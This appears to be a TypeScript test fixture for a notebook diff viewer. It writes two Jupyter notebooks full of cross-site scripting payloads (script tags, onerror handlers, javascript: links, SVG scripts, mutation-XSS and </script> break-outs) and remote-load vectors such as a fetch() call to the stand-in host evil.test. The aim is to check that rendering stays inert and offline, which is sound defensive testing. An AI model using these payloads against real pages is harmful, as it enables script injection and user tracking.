/**
 * A pair of notebooks written to attack the viewer: scripts, event handlers, `javascript:` URLs, SVG with
 * scripts, `</script>` break-outs in sources and metadata, and every way we know of to make a page load a
 * remote resource, in markdown cells, HTML/SVG/markdown/LaTeX/JavaScript outputs, tracebacks, streams and
 * attachments. Each payload that ran would set `window.__pwned`; each load would reach `evil.test`.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const pwn = (tag: string): string => `window.__pwned=(window.__pwned||[]).concat('${tag}')`;

/** Markup that must come out inert and offline wherever it is rendered. */
export function evilHtml(tag: string): string {
  return [
    `<script>${pwn(`${tag}-script`)}</script>`,
    `<img src="https://evil.test/${tag}/img.png" onerror="${pwn(`${tag}-onerror`)}" alt="tracker">`,
    `<img src=x onerror="${pwn(`${tag}-onerror2`)}">`,
    `<img srcset="https://evil.test/${tag}/srcset.png 2x">`,
    `<a href="javascript:${pwn(`${tag}-js-link`)}" id="${tag}-jslink">click me</a>`,
    `<a href="  JaVaScRiPt:${pwn(`${tag}-js-link2`)}">click me too</a>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><script>${pwn(`${tag}-svg-script`)}</script><image href="https://evil.test/${tag}/svg-image.png" width="10" height="10"/>`
      + `<a href="javascript:${pwn(`${tag}-svg-link`)}"><text y="10">svg link</text></a><animate attributeName="href" to="javascript:${pwn(`${tag}-anim`)}"/>`
      + `<foreignObject><img src="https://evil.test/${tag}/fo.png"></foreignObject><use href="https://evil.test/${tag}/use.svg#x"/></svg>`,
    `<style>@import url(https://evil.test/${tag}/import.css); body { background: url(https://evil.test/${tag}/bg.png) }</style>`,
    `<div style="background-image: url('https://evil.test/${tag}/div.png')">styled</div>`,
    `<div style="background: u\\72l(https://evil.test/${tag}/escaped.png)">escaped</div>`,
    `<iframe src="https://evil.test/${tag}/frame.html"></iframe>`,
    `<iframe srcdoc="<script>parent.${pwn(`${tag}-srcdoc`)}</script>"></iframe>`,
    `<object data="https://evil.test/${tag}/object.swf"></object><embed src="https://evil.test/${tag}/embed.swf">`,
    `<meta http-equiv="refresh" content="0;url=https://evil.test/${tag}/refresh">`,
    `<base href="https://evil.test/${tag}/">`,
    `<link rel="stylesheet" href="https://evil.test/${tag}/link.css"><link rel="prefetch" href="https://evil.test/${tag}/prefetch">`,
    `<form action="https://evil.test/${tag}/form"><input type="image" src="https://evil.test/${tag}/input.png"><button>go</button></form>`,
    `<video poster="https://evil.test/${tag}/poster.png" src="https://evil.test/${tag}/video.mp4"></video><audio src="https://evil.test/${tag}/audio.mp3"></audio>`,
    `<table background="https://evil.test/${tag}/table.png"><tr><td background="https://evil.test/${tag}/td.png">cell</td></tr></table>`,
    `<details open ontoggle="${pwn(`${tag}-ontoggle`)}"><summary>s</summary></details>`,
    `<body onload="${pwn(`${tag}-onload`)}"><div onmouseover="${pwn(`${tag}-hover`)}">hover</div>`,
    `<math><mtext><a href="javascript:${pwn(`${tag}-math`)}">m</a></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${pwn(`${tag}-mxss`)}>"></noscript>`,
    `</script><script>${pwn(`${tag}-breakout`)}</script><!--`,
  ].join('\n');
}

const EVIL_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${pwn('svg-onload')}">`
  + `<script>${pwn('svg-output-script')}</script><image xlink:href="https://evil.test/svg/out.png" width="40" height="40"/>`
  + `<style>@import url(https://evil.test/svg/style.css);</style><rect width="40" height="40" fill="red"/></svg>`;

/** A 1×1 PNG, for an attachment. */
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==';

function markdownSource(side: string): string {
  return [
    `# Evil markdown (${side}) <script>${pwn(`md-${side}-script`)}</script>`,
    '',
    `A tracking pixel: ![pixel](https://evil.test/md-${side}/pixel.png) and a protocol-relative one ![p2](//evil.test/md-${side}/p2.png).`,
    '',
    `[javascript link](javascript:${pwn(`md-${side}-jslink`)}) and an attachment ![att](attachment:pic.png)`,
    '',
    `Math that tries to break out: $x < y </script><script>${pwn(`md-${side}-math`)}</script>$ and $\\href{javascript:alert(1)}{x}$`,
    '',
    evilHtml(`md-${side}`),
  ].join('\n');
}

function notebook(side: 'base' | 'head'): unknown {
  const breakout = `</script><script>${pwn(`${side}-source-breakout`)}</script><!--<script>`;
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      kernelspec: { name: 'python3', display_name: `</script><script>${pwn('kernel-name')}</script>`, language: 'python' },
      language_info: { name: 'python' },
      evil: `</script><img src=x onerror="${pwn('nb-metadata')}">`,
    },
    cells: [
      { cell_type: 'markdown', id: 'md1', metadata: { evil: breakout }, source: markdownSource(side), attachments: { 'pic.png': { 'image/png': PNG } } },
      {
        cell_type: 'code', id: 'code1', execution_count: side === 'base' ? 1 : 2, metadata: { tags: [breakout], side },
        source: `print("${side}")  # ${breakout}\nhtml = """${evilHtml(`src-${side}`)}"""`,
        outputs: [
          { output_type: 'stream', name: 'stdout', text: `${side} <img src="https://evil.test/stream-${side}.png" onerror="${pwn('stream')}">\n` },
          { output_type: 'display_data', metadata: {}, data: { 'text/html': evilHtml(`html-${side}`), 'text/plain': 'html' } },
          { output_type: 'display_data', metadata: {}, data: { 'image/svg+xml': EVIL_SVG.replace('fill="red"', `fill="${side === 'base' ? 'red' : 'blue'}"`), 'text/plain': 'svg' } },
          { output_type: 'display_data', metadata: {}, data: { 'text/markdown': markdownSource(`out-${side}`), 'text/plain': 'md' } },
          { output_type: 'display_data', metadata: {}, data: { 'application/javascript': `${pwn(`js-output-${side}`)}; fetch('https://evil.test/js-${side}')` } },
          { output_type: 'display_data', metadata: {}, data: { 'text/latex': `$$\\href{javascript:${pwn('latex')}}{x} \\includegraphics{https://evil.test/latex.png} ${side}$$` } },
          { output_type: 'execute_result', execution_count: side === 'base' ? 1 : 2, metadata: {}, data: { 'application/json': { evil: breakout, side }, 'text/plain': 'json' } },
          {
            output_type: 'error', ename: 'ValueError', evalue: `</script><script>${pwn('evalue')}</script>`,
            traceback: [`\u001b[0;31mValueError\u001b[0m <img src="https://evil.test/tb-${side}.png" onerror="${pwn('traceback')}">`, breakout],
          },
        ],
      },
      ...(side === 'base'
        ? [{ cell_type: 'markdown', id: 'gone', metadata: {}, source: `Removed cell ${evilHtml('removed')}` }]
        : [{ cell_type: 'code', id: 'new', execution_count: 3, metadata: {}, source: `x = 1  # ${breakout}`,
          outputs: [{ output_type: 'display_data', metadata: {}, data: { 'text/html': evilHtml('added'), 'text/plain': 'x' } }] }]),
      { cell_type: 'raw', id: 'raw1', metadata: {}, source: `raw ${breakout} ${side}` },
    ],
  };
}

/** Writes the pair into a new temporary folder; returns the two paths. */
export function writeMaliciousPair(): { base: string; head: string } {
  const dir = mkdtempSync(join(tmpdir(), 'cellwise-evil-'));
  const base = join(dir, 'evil-base.ipynb');
  const head = join(dir, 'evil-head.ipynb');
  writeFileSync(base, JSON.stringify(notebook('base'), null, 1));
  writeFileSync(head, JSON.stringify(notebook('head'), null, 1));
  return { base, head };
}
